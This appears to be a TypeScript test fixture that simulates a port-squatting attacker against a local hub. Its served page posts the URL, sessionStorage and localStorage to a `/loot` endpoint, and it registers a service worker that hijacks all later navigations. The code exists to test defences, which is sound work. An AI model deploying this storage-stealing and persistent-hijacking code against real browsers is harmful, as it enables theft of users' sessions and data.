import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { until } from './squad.ts';

/** How a squatter treats `/api`: any answer, a reset connection, or none at all. */
export type SquatterKind = 'answers' | 'resets' | 'hangs';

/** A program that took the port of a hub that has ended. Its document and its worker send home all that the browser gives them. */
export class Squatter {
  /** Everything the browser said: one line for each request, and each body. */
  readonly heard: string[] = [];
  /** Data that its scripts stole: URLs with their fragment, and storage. */
  readonly loot: string[] = [];
  readonly #servers: Server[] = [];
  readonly #kind: SquatterKind;

  private constructor(kind: SquatterKind) {
    this.#kind = kind;
  }

  /** As soon as the port is free, on both loopback addresses: a browser may try either. */
  static async take(port: number, kind: SquatterKind): Promise<Squatter> {
    const squatter = new Squatter(kind);
    for (const host of ['127.0.0.1', '::1']) await squatter.#listen(port, host);
    return squatter;
  }

  async leave(): Promise<void> {
    for (const server of this.#servers) {
      server.closeAllConnections();
      await new Promise(closed => server.close(closed));
    }
  }

  async #listen(port: number, host: string): Promise<void> {
    const server = createServer((request, response) => void this.#answer(request, response));
    await until(`port ${port} of ${host} is free`, async () => {
      const failed = once(server, 'error').then(() => false);
      return Promise.race([
        failed,
        new Promise<boolean>(settle => server.listen(port, host, () => settle(true))),
      ]);
    });
    this.#servers.push(server);
  }

  async #answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    let body = '';
    for await (const chunk of request.setEncoding('utf8')) body += chunk;
    if (request.url === '/loot') {
      this.loot.push(body);
      response.end();
      return;
    }
    this.heard.push([request.method, request.url, JSON.stringify(request.headers), body].join(' '));
    if (request.url === '/worker.js')
      response.writeHead(200, { 'content-type': 'text/javascript' }).end(WORKER);
    else if (!request.url!.startsWith('/api')) response.writeHead(200, HTML).end(DOCUMENT);
    else if (this.#kind === 'resets') request.socket.destroy();
    else if (this.#kind === 'answers')
      response.writeHead(200, { 'content-type': 'application/json' }).end('{"proof":"trust me"}');
  }
}

const HTML = { 'content-type': 'text/html' };

const DOCUMENT = `<!doctype html><p>squatter</p><script>
const loot = JSON.stringify({ at: location.href, ...sessionStorage, ...localStorage });
fetch('/loot', { method: 'POST', body: loot }).finally(() => document.body.setAttribute('data-took', loot));
navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
  .then(() => document.body.setAttribute('data-worker', 'ready'));
</script>`;

/** Outlives the squatter in the browser, and answers every navigation with the squatter's document. */
const WORKER = `
addEventListener('install', () => skipWaiting());
addEventListener('activate', event => event.waitUntil(clients.claim()));
addEventListener('fetch', event => {
  if (event.request.mode === 'navigate') event.respondWith(new Response(${JSON.stringify(DOCUMENT)}, { headers: { 'content-type': 'text/html' } }));
});`;
